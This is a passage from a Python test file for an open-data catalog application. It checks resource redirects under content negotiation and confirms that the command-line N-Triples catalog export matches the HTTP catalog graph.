        page_answer = client.get(f"/dataset/harvested-bus-stops/resource/{dist_id}", headers={"Accept": "text/html"})
        assert page_answer.status_code == 303, dist_id
        assert urlsplit(page_answer.headers["Location"]).fragment == f"dist-{catalog_id}"
        rdf = client.get(f"/dataset/harvested-bus-stops/resource/{dist_id}", headers={"Accept": "text/turtle"})
        assert rdf.status_code == 303 and _path(rdf.headers["Location"]) == "/dataset/harvested-bus-stops.ttl"
    assert client.get("/dataset/harvested-bus-stops/resource/not-a-file").status_code == 404


def test_the_command_line_catalog_is_the_http_catalog(demo, client, db_url, tmp_path, app):
    """`opendata export catalog --format nt` and /catalog.nt?page=all said different things of the catalog itself (its
    description, its publisher's name, its homepage with or without a slash): one graph now, isomorphic."""
    import os

    from rdflib.compare import isomorphic

    from tests.support.cli import opendata

    site = app.config["OPENDATA"]["SITE_URL"]
    env = {**os.environ, "OPENDATA_DATABASE_URL": db_url, "OPENDATA_INSTANCE_DIR": str(tmp_path),
           "OPENDATA_SITE_URL": site}
    out = opendata("export", "catalog", "--format", "nt", env=env)
    assert out.returncode == 0, out.stderr
    cli = rdflib.Graph().parse(data=out.stdout, format="nt")
    http = rdflib.Graph().parse(data=client.get("/catalog.nt?page=all").data, format="nt")
    assert isomorphic(cli, http), sorted(set(http) ^ set(cli))[:6]
